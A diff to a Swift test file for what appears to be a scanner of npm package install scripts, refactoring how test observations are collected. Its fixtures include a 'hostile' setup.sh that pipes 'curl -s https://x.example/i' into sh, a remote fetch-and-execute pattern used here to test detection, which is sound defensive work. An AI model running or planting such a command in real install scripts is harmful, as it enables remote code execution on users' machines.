@@ -86,7 +86,8 @@ struct InstallCommandTests {
     func shellFiles() throws {
         func found(_ command: String, _ text: String) throws -> Set<String> {
             let manifest = #"{"name":"acme-box","version":"1.2.3","scripts":{"install":"\#(command)"}}"#
-            return try npmTarball(manifest: manifest) { $0.addFile("package/bin/setup.sh", text) }.observations()
+            let artifact = try npmTarball(manifest: manifest) { $0.addFile("package/bin/setup.sh", text) }
+            return artifact.observations().subtracting([Observation.scriptFile.rawValue])
         }
         let fetching = "#!/bin/sh\nset -e\nDIR=$(cat dir)\ncurl -o t.gz https://x.example/t.gz\n"
         let hostile = "#!/bin/sh\n# set up\ncurl -s https://x.example/i |\n  sh\n"
